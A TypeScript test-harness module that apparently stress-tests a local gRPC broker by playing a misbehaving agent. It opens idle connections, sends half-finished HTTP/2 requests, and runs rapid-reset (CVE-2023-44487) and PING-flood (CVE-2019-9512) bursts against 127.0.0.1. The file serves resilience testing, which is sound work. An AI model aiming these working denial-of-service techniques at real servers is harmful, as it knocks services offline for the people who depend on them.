import { readFileSync } from 'node:fs'
import { connect as connectTcp, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls, type TLSSocket } from 'node:tls'
import { brokerService } from '../../../src/contract/broker.ts'
import {
  callHeaders,
  END_HEADERS,
  END_STREAM,
  frame,
  grpcMessage,
  headerBlock,
  PREFACE,
  TYPE,
} from '../../attack/frames.ts'
import { benchTask } from '../bench-grants.ts'
import type { AgentFiles } from '../bench-stage.ts'
import { serveRole } from '../pinned-process.ts'

/** Between two bursts of each kind, so that the attacker leaves the client its core. */
const PAUSE_MS = 100
const RESETS = 50
const PINGS = 500
const HALVES = 10

/** Whom to attack, as whom, and with how many connections that say nothing. */
export interface AttackOrder {
  readonly address: string
  readonly agent: AgentFiles
  readonly silent: number
}

/** How much of an attack it was. */
export interface AttackDone {
  /** Opened in all: the broker closes silent ones when there are more than it takes, and each is opened again. */
  readonly connections: number
  readonly bursts: number
}

/** A registered agent gone bad: silent connections, requests sent by half, rapid reset and floods of PING, until told to end. */
export async function runAttacker(): Promise<void> {
  const opened = new Set<Socket>()
  let did: AttackDone = { connections: 0, bursts: 0 }
  let done: Promise<unknown> | undefined
  let stop: () => void = () => undefined
  serveRole({
    attack: async (order: AttackOrder) => {
      const state = { stopped: false }
      did = { connections: 0, bursts: 0 }
      const again = async (burst: () => Promise<void>) => {
        while (!state.stopped) {
          await burst()
          did = { ...did, bursts: did.bursts + 1 }
          await sleep(PAUSE_MS)
        }
      }
      const keep = <T extends Socket>(socket: T): T => {
        opened.add(socket)
        did = { ...did, connections: did.connections + 1 }
        socket.on('error', () => undefined).on('close', () => opened.delete(socket))
        return socket
      }
      const port = Number(order.address.split(':').at(-1))
      const silence = async () => {
        for (let left = order.silent - opened.size; left > 0; left -= 1) keep(connectTcp(port, '127.0.0.1'))
      }
      const tls = () => secure(keep, port, order.agent)
      await silence()
      const kinds = [silence, () => halves(tls), () => resets(tls), () => pings(tls)]
      done = Promise.all(kinds.map(again))
      stop = () => {
        state.stopped = true
      }
    },
    end: async () => {
      stop()
      await done
      for (const socket of opened) socket.destroy()
      return did
    },
  })
}

type Tls = () => Promise<TLSSocket | undefined>

/** Undefined when the broker would not have it. */
function secure(
  keep: (socket: TLSSocket) => TLSSocket,
  port: number,
  agent: AgentFiles,
): Promise<TLSSocket | undefined> {
  const socket = keep(
    connectTls({
      ...{ host: '127.0.0.1', port, ALPNProtocols: ['h2'], rejectUnauthorized: false },
      ...{ cert: readFileSync(agent.certificateFile), key: readFileSync(agent.privateKeyFile) },
    }),
  )
  return new Promise((resolve) => {
    socket.resume()
    socket.once('secureConnect', () => resolve(socket))
    socket.once('close', () => resolve(undefined))
  })
}

/** @see CVE-2023-44487 */
async function resets(tls: Tls): Promise<void> {
  const socket = await tls()
  const request = { task: benchTask(0), idempotencyKey: 'bench-attack' }
  const body = grpcMessage(brokerService.RequestGrant.requestSerialize(request as never))
  const calls = Array.from({ length: RESETS }, (_, n) => {
    const id = 1 + 2 * n
    const cancel = frame(TYPE.reset, 0, id, Buffer.from([0, 0, 0, 8]))
    return Buffer.concat([begin(id), frame(TYPE.data, END_STREAM, id, body), cancel])
  })
  await say(socket, Buffer.concat([PREFACE, ...calls]))
}

/** @see CVE-2019-9512 */
async function pings(tls: Tls): Promise<void> {
  const ping = frame(TYPE.ping, 0, 0, Buffer.alloc(8))
  await say(await tls(), Buffer.concat([PREFACE, ...Array.from({ length: PINGS }, () => ping)]))
}

async function halves(tls: Tls): Promise<void> {
  await say(await tls(), Buffer.concat([PREFACE, ...Array.from({ length: HALVES }, (_, n) => begin(1 + 2 * n))]))
}

/** Says it, lets it work for a moment, and is gone. */
async function say(socket: TLSSocket | undefined, bytes: Buffer): Promise<void> {
  socket?.write(bytes)
  await sleep(PAUSE_MS)
  socket?.destroy()
}

function begin(id: number): Buffer {
  return frame(TYPE.headers, END_HEADERS, id, headerBlock(callHeaders('RequestGrant')))
}
